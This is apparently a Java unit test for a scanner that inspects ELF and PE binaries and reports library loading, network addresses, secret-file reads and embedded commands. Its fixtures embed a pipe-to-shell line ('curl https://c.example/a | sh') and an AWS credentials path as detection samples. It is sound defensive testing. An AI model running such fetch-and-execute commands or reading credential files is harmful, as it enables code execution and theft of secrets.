package dev.assay.core.code.binary;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.testing.Mutator;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.Test;

class NativeReaderTest {
  private static byte[] elf(int type, String... strings) {
    ByteBuffer file = ByteBuffer.allocate(4096).order(ByteOrder.LITTLE_ENDIAN);
    file.put(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1}).position(16);
    file.putShort((short) type).position(64);
    for (String string : strings) {
      file.put(string.getBytes(StandardCharsets.US_ASCII)).put((byte) 0);
    }
    return file.array();
  }

  private static byte[] portable(int flags) {
    ByteBuffer file = ByteBuffer.allocate(512).order(ByteOrder.LITTLE_ENDIAN);
    file.put(new byte[] {'M', 'Z'}).putInt(60, 128);
    file.position(128);
    file.put(new byte[] {'P', 'E', 0, 0}).putShort(128 + 22, (short) flags);
    return file.array();
  }

  private static List<String> told(byte[] bytes, String path, boolean foreign) {
    BinaryPlace place = new BinaryPlace(path, List.of(), false);
    return Binaries.nativeFile(bytes, place, foreign).acts().stream()
        .map(act -> act.kind() + " " + act.target())
        .toList();
  }

  @Test
  void tellsWhatAFileIs() {
    assertThat(told(elf(3), "p/_c.so", true)).containsExactly("LOADS_NATIVE a library (ELF)");
    assertThat(told(elf(2), "p/tool", false)).containsExactly("LOADS_NATIVE a program (ELF)");
    assertThat(told(portable(0), "p/a.exe", false)).containsExactly("LOADS_NATIVE a program (PE)");
    assertThat(told(portable(0x2000), "p/news.txt", false))
        .containsExactly("LOADS_NATIVE a library (PE) under another name");
  }

  @Test
  void leavesTheLibrariesOfAPlatformInPeace() {
    byte[] library = elf(3, "https://docs.example/errors", "/home/u/.aws/credentials");

    assertThat(told(library, "p/_c.cpython-312-x86_64-linux-gnu.so", false)).isEmpty();
  }

  @Test
  void tellsOfAddressesPathsAndCommands() {
    byte[] library =
        elf(3, "http://192.0.2.1/x", "/home/u/.aws/credentials", "curl https://c.example/a | sh");

    assertThat(told(library, "p/_c.so", true))
        .contains(
            "LOADS_NATIVE a library (ELF)",
            "RECEIVES http://192.0.2.1/x",
            "READS_SECRET /home/u/.aws/credentials",
            "EXECUTES_TEXT https://c.example/a");
  }

  @Test
  void neverFails() {
    Mutator mutator = new Mutator(2, List.of(elf(3, "curl https://c.example"), portable(0)));
    for (int i = 0; i < 3_000; i++) {
      byte[] bytes = mutator.next();
      if (bytes.length > 0) {
        assertThat(told(bytes, "p/_c.so", true)).hasSizeLessThan(500);
      }
    }
  }
}
